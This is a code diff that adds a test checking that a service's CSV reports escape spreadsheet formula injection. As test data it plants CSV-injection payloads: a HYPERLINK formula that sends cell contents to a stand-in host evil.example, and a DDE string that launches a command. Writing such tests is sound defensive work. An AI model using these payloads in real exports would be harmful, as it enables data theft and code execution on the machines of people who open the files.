@@ -197,3 +197,73 @@ async def test_every_field_is_validated(world: World, node: Node) -> None:
     # and a good demand still goes through
     await acme.post("/v1/demands", demand("model_services", 100), expect=201)
     await acme.post("/v1/holds", order("sac_x", "O", 1), expect=403)
+
+
+# Output: CSV safe in a spreadsheet ------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+async def test_every_csv_the_node_writes_is_safe_in_a_spreadsheet(
+    world: World, node: Node, tmp_path: Any
+) -> None:
+    import csv
+    import io
+
+    from node.csvout import TRIGGERS, original
+    from node.reports import REPORTS, export
+    from node.services.common import SYSTEM
+    from tests.conftest import valid_uscc
+
+    # Text that people or providers chose, each beginning with a formula trigger.
+    created = await world.op.post(
+        "/v1/holders",
+        {"uscc": valid_uscc("91330100MA2XYW001"), "name": "@SUM(1+1)", "category": "enterprise"},
+        expect=201,
+    )
+    await world.op.as_(created["token"]).post(
+        "/v1/demands", demand("model_services", 1_000_000), expect=201
+    )
+    await world.op.post(
+        "/v1/providers",
+        {
+            "uscc": valid_uscc("91330100MA2XYW002"),
+            "name": "+cmd|' /C calc'!A0",
+            "kind": "computing_centre",
+            "approved": True,
+        },
+        expect=201,
+    )
+    v = await world.voucher("acme", 100_000_000)
+    code = await world.code("acme", v["id"], "alicloud", 5_000_000)
+    await world.providers["alicloud"].post(
+        "/v1/redemptions", order(code, FORMULA, 1_000_000), expect=201
+    )
+    code = await world.code("acme", v["id"], "alicloud", 5_000_000)
+    await world.providers["alicloud"].post(
+        "/v1/redemptions", order(code, "-2+3", 1_000_000), expect=201
+    )
+    closed = await node.settlement.close(SYSTEM, None)
+    assert closed["payouts"] == 1
+
+    outputs: dict[str, str] = {}
+    for report in REPORTS:
+        out = io.StringIO()
+        export(node.config.db_path, report, "csv", out, node.config.region)
+        outputs[report] = out.getvalue()
+    outputs["payouts"] = "".join([c async for c in node.settlement.payouts_csv(SYSTEM, None)])
+    resp = await world.op.client.get(
+        "/v1/settlement/payouts?format=csv", headers={"Authorization": f"Bearer {world.op.token}"}
+    )
+    outputs["payouts over REST"] = await resp.text()
+
+    seen, cells = set(), {}
+    for name, text in outputs.items():
+        cells[name] = [value for row in csv.reader(io.StringIO(text)) for value in row]
+        for value in cells[name]:
+            assert not value.startswith(TRIGGERS[:-1]), (name, value)
+            seen.add(original(value))
+    # The values are all there, and come back exactly.
+    assert {FORMULA, "-2+3", "@SUM(1+1)", "+cmd|' /C calc'!A0"} <= seen
+    for name in ("captures", "payouts", "payouts over REST", "statement_records"):
+        assert "'" + FORMULA in cells[name], name
